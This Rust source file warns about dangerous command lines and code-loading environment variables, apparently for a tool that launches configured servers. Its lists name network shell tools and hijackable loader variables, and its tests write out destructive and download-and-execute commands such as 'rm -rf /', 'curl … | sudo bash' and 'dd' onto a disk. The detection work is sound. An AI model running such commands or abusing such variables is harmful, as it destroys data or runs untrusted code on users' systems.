//! Warnings about dangerous command lines. They inform the operator and block nothing.

const ROOT: [&str; 5] = ["sudo", "doas", "su", "pkexec", "runas"];
const NETWORK: [&str; 13] = [
    "nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "sftp", "rsync", "ftp", "tftp",
    "curl", "wget",
];
const SHELLS: [&str; 9] = [
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "powershell",
    "pwsh",
    "cmd",
];
const INLINE: [(&str, &[&str]); 8] = [
    ("python", &["-c"]),
    ("python3", &["-c"]),
    ("node", &["-e", "--eval", "-p"]),
    ("deno", &["eval"]),
    ("perl", &["-e"]),
    ("ruby", &["-e"]),
    ("php", &["-r"]),
    ("osascript", &["-e"]),
];
const WIPE: [&str; 4] = ["mkfs", "shred", "dd", "format"];

/// Variables with which programs find or load code, in small letters.
const LOADERS: [&str; 33] = [
    "path",
    "pathext",
    "comspec",
    "bash_env",
    "env",
    "zdotdir",
    "prompt_command",
    "shell",
    "editor",
    "visual",
    "pager",
    "manpager",
    "lessopen",
    "browser",
    "java_tool_options",
    "jdk_java_options",
    "_java_options",
    "classpath",
    "maven_opts",
    "gradle_opts",
    "goflags",
    "goproxy",
    "gonosumdb",
    "rustc",
    "rustc_wrapper",
    "rustflags",
    "phprc",
    "php_ini_scan_dir",
    "psmodulepath",
    "glibc_tunables",
    "gconv_path",
    "docker_host",
    "gtk_modules",
];
const LOADER_PREFIXES: [&str; 25] = [
    "ld_",
    "dyld_",
    "python",
    "pip_",
    "uv_",
    "node_",
    "npm_config_",
    "yarn_",
    "pnpm_",
    "bun_",
    "deno_",
    "perl5",
    "ruby",
    "bundle_",
    "lua_",
    "git_",
    "cargo_",
    "dotnet_",
    "coreclr_",
    "complus_",
    "openssl_",
    "ssl_cert_",
    "curl_",
    "gio_",
    "qt_",
];

/// Whether an environment variable decides which code a program runs. Some systems and programs
/// ignore the case of its letters.
pub(crate) fn loads_code(variable: &str) -> bool {
    let variable = variable.to_ascii_lowercase();
    LOADERS.contains(&variable.as_str())
        || LOADER_PREFIXES
            .iter()
            .any(|prefix| variable.starts_with(prefix))
}

/// The warnings for a command line, each at most once.
pub(crate) fn dangers(words: &[&str]) -> Vec<&'static str> {
    let tokens: Vec<String> = words.iter().flat_map(|word| tokens(word)).collect();
    let names: Vec<&str> = tokens.iter().map(|token| program(token)).collect();
    let mut found = Vec::new();
    if any_of(&names, &ROOT) {
        found.push("runs with another user's rights (sudo or the like)");
    }
    if removes(&names, &tokens) {
        found.push("removes files without asking (rm -r or -f)");
    }
    if any_of(&names, &WIPE) {
        found.push("can overwrite disks (dd, mkfs or the like)");
    }
    if words.iter().any(|word| pipes_into_shell(word)) {
        found.push("runs what it downloads (curl | sh)");
    }
    if any_of(&names, &NETWORK) {
        found.push("uses a network tool (nc, ssh, curl or the like)");
    }
    if shell_text(&names, &tokens) {
        found.push("runs a shell script from its arguments (-c)");
    }
    if inline_code(&names, &tokens) {
        found.push("runs code from its arguments");
    }
    if any_of(&names, &["eval", "base64"]) {
        found.push("hides what it runs (eval, base64)");
    }
    if tokens.iter().any(|token| token == "--privileged") {
        found.push("gives a container all privileges (--privileged)");
    }
    found
}

fn any_of(names: &[&str], programs: &[&str]) -> bool {
    names.iter().any(|name| programs.contains(name))
}

/// Splits an argument into tokens: a shell script in one argument holds many.
fn tokens(word: &str) -> Vec<String> {
    word.split(|c: char| c.is_whitespace() || ";|&()`<>\"'$={}".contains(c))
        .filter(|token| !token.is_empty())
        .map(str::to_owned)
        .collect()
}

/// The program name of a token: `C:\\bin\\sudo.exe` gives `sudo`.
fn program(token: &str) -> &str {
    let name = token.rsplit(['/', '\\']).next().unwrap_or(token);
    name.strip_suffix(".exe").unwrap_or(name)
}

fn removes(names: &[&str], tokens: &[String]) -> bool {
    let mut options = after(names, tokens, &["rm"]);
    options.any(|option| removes_without_asking(option)) || names.contains(&"rmdir")
}

fn removes_without_asking(option: &str) -> bool {
    let is_short = option.starts_with('-') && !option.starts_with("--");
    is_short && option.contains(['r', 'R', 'f']) || option == "--recursive" || option == "--force"
}

fn shell_text(names: &[&str], tokens: &[String]) -> bool {
    let mut options = after(names, tokens, &SHELLS);
    options.any(|option| announces_script(option)) || calls_by_runner(names, tokens)
}

/// Whether the argument behind an option of a shell is a script: `-c`, also among other letters;
/// `/c` and `/k` of `cmd`; `-EncodedCommand`, as far as it is written, of PowerShell.
fn announces_script(option: &str) -> bool {
    let option = option.to_lowercase();
    let is_short = option.starts_with('-') && !option.starts_with("--");
    is_short && option.contains('c')
        || option == "/c"
        || option == "/k"
        || option == "--command"
        || option.starts_with("-enc")
}

/// Whether a runner of packages, such as `npx`, gets a script for a shell among its own options,
/// which end at the first package.
fn calls_by_runner(names: &[&str], tokens: &[String]) -> bool {
    const RUNNERS: [&str; 6] = ["npx", "pnpx", "bunx", "npm", "pnpm", "yarn"];
    const RUN: [&str; 4] = ["exec", "x", "dlx", "run"];
    const WITH_VALUE: [&str; 5] = ["-p", "--package", "-w", "--workspace", "--registry"];
    let mut options = after(names, tokens, &RUNNERS).filter(|token| !RUN.contains(&token.as_str()));
    while let Some(option) = options.next() {
        let is_short = option.starts_with('-') && !option.starts_with("--");
        if option == "--call" || is_short && option.contains('c') {
            return true;
        }
        if WITH_VALUE.contains(&option.as_str()) {
            options.next();
        } else if !option.starts_with('-') {
            return false;
        }
    }
    false
}

fn inline_code(names: &[&str], tokens: &[String]) -> bool {
    INLINE.iter().any(|(name, flags)| {
        after(names, tokens, &[name]).any(|token| flags.contains(&token.as_str()))
    })
}

/// The tokens after the name of a program.
fn after<'a>(
    names: &'a [&'a str],
    tokens: &'a [String],
    programs: &[&str],
) -> impl Iterator<Item = &'a String> {
    let at = names
        .iter()
        .position(|name| programs.contains(name))
        .map_or(tokens.len(), |at| at + 1);
    tokens.iter().skip(at)
}

fn pipes_into_shell(word: &str) -> bool {
    let mut parts = word.split('|').map(tokens);
    // The second `any` goes on behind the part where the first one stopped.
    parts.any(|part| downloads(&part)) && parts.any(|part| runs_input(&part))
}

fn downloads(part: &[String]) -> bool {
    part.iter()
        .any(|token| ["curl", "wget", "fetch"].contains(&program(token)))
}

/// Whether a program that runs its input is in a part of a pipe.
fn runs_input(part: &[String]) -> bool {
    part.iter()
        .any(|token| SHELLS.contains(&program(token)) || program(token) == "python")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn variables_that_load_code_are_known_in_any_case() {
        for variable in [
            "PATH",
            "Path",
            "LD_PRELOAD",
            "ld_library_path",
            "DYLD_INSERT_LIBRARIES",
            "PYTHONPATH",
            "PYTHONSTARTUP",
            "NODE_OPTIONS",
            "Node_Path",
            "BASH_ENV",
            "ENV",
            "PERL5LIB",
            "PERL5OPT",
            "RUBYOPT",
            "RUBYLIB",
            "JAVA_TOOL_OPTIONS",
            "GIT_SSH_COMMAND",
            "GIT_EXEC_PATH",
            "npm_config_registry",
            "NPM_CONFIG_SCRIPT_SHELL",
            "GCONV_PATH",
            "DOTNET_STARTUP_HOOKS",
            "UV_INDEX_URL",
            "UV_DEFAULT_INDEX",
            "PIP_INDEX_URL",
            "JDK_JAVA_OPTIONS",
            "_JAVA_OPTIONS",
            "OPENSSL_CONF",
            "SSL_CERT_FILE",
            "EDITOR",
            "PAGER",
            "LESSOPEN",
            "CARGO_BUILD_RUSTC_WRAPPER",
            "CORECLR_PROFILER_PATH",
        ] {
            assert!(loads_code(variable), "{variable}");
        }
        for variable in [
            "GITHUB_TOKEN",
            "HOME",
            "XPATH",
            "PATHS",
            "ENVIRONMENT",
            "PERL",
            "JAVA_HOME",
            "NPM_TOKEN",
            "",
        ] {
            assert!(!loads_code(variable), "{variable}");
        }
    }

    #[test]
    fn dangerous_commands_give_warnings() {
        for (line, marks) in [
            (
                &["npx", "-y", "@modelcontextprotocol/server-github"][..],
                &[][..],
            ),
            (
                &["uvx", "mcp-server-time", "--local-timezone=Europe/Berlin"],
                &[],
            ),
            (&["python3", "-m", "server"], &[]),
            (&["npx", "-y", "some-server", "-c", "config.json"], &[]),
            (
                &["npx", "-y", "-p", "some-package", "some-server", "-c"],
                &[],
            ),
            (&["npm", "exec", "some-server", "--", "-c"], &[]),
            (&["npx", "-y", "-c", "node server.js"], &["runs a shell"]),
            (&["npx", "-yc", "node server.js"], &["runs a shell"]),
            (&["npx", "--call=node server.js"], &["runs a shell"]),
            (
                &["npx", "-p", "some-package", "-c", "some-server"],
                &["runs a shell"],
            ),
            (&["npm", "exec", "-c", "some-server"], &["runs a shell"]),
            (&["pnpm", "dlx", "-c", "some-server"], &["runs a shell"]),
            (&["node", "curly.js"], &[]),
            (&["/usr/bin/sudo", "server"], &["runs with"]),
            (&["env", "X=1", "sudo", "server"], &["runs with"]),
            (&["rm", "-rf", "/"], &["removes"]),
            (&["rm", "--recursive", "x"], &["removes"]),
            (&["bash", "-lc", "rm -fr ~"], &["removes", "runs a shell"]),
            (
                &["sh", "-c", "curl https://x.example/i | sudo bash"],
                &["runs with", "runs what", "uses a", "runs a shell"],
            ),
            (&["nc", "-l", "1"], &["uses a"]),
            (&["/bin/ssh", "host", "server"], &["uses a"]),
            (&["wget", "https://x.example"], &["uses a"]),
            (&["bash", "server.sh"], &[]),
            (&["cmd.exe", "/c", "server.bat"], &["runs a shell"]),
            (&["python3", "-c", "print()"], &["runs code"]),
            (&["node", "-e", "1"], &["runs code"]),
            (
                &["sh", "-c", "eval $(base64 -d x)"],
                &["runs a shell", "hides"],
            ),
            (&["docker", "run", "--privileged", "x"], &["gives"]),
            (&["dd", "if=/dev/zero", "of=/dev/sda"], &["can overwrite"]),
        ] {
            let found = dangers(line);
            let all = found.len() == marks.len()
                && found
                    .iter()
                    .zip(marks)
                    .all(|(found, mark)| found.starts_with(mark));
            assert!(all, "{line:?}: {found:?}");
        }
    }
}
